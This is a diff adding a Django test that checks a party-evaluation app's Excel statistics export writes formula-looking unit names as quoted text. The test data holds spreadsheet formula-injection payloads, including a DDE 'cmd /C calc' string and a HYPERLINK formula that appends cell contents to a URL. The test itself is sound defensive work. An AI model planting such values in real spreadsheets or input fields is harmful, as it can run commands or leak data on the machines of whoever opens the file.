@@ -10,6 +10,7 @@ from django.utils import translation
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
+from danhgia.apps.orgs.models import Unit
 from danhgia.apps.reports.exports.data import statistics_document
 from danhgia.apps.reports.exports.pdf import statistics_pdf
 from danhgia.apps.reports.exports.xlsx import statistics_workbook
@@ -81,6 +82,39 @@ def test_the_workbook_has_a_summary_and_one_sheet_per_subject_with_the_tree_inde
         ("Đảng viên", "Miễn đánh giá", "được miễn công tác và sinh hoạt đảng", 1),
         ("Đảng viên", "Không xếp loại", "do cấp có thẩm quyền quyết định", 1),
     ]
+
+
+NAMES = {
+    "TU": '=HYPERLINK("http://x"&A1,"y")',
+    "DB-SNV": "+cmd|' /C calc'!A0",
+    "CB-VP": "@SUM(1+1)",
+    "SNV": "-2+3",
+}
+
+
+def test_unit_names_that_look_like_formulas_are_written_as_text() -> None:
+    world = reports_world()
+    cycle = open_cycle(world)
+    the_2025_results(world, cycle)
+    summaries_refresh(cycle=cycle, now=NOW)
+    for code, name in NAMES.items():
+        Unit.objects.filter(code=code).update(name=name)
+    out = BytesIO()
+
+    with translation.override("vi"):
+        statistics_workbook(statistics(cycle=cycle, unit=Unit.objects.get(code="TU")), out)
+
+    book = load_workbook(BytesIO(out.getvalue()))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    members = [cell for cell in cells if cell.parent.title == "Đảng viên"]
+    assert {cell.value for cell in members if cell.column == 2 and cell.value in NAMES.values()} == {
+        NAMES["TU"],
+        NAMES["DB-SNV"],
+        NAMES["CB-VP"],
+    }
+    assert all(cell.quotePrefix for cell in cells if cell.value in NAMES.values())
+    assert book["Tổng hợp"]["B3"].value == f"TU — {NAMES['TU']}"
 
 
 def test_the_workbook_tree_can_stop_at_a_depth(stats: Statistics) -> None:
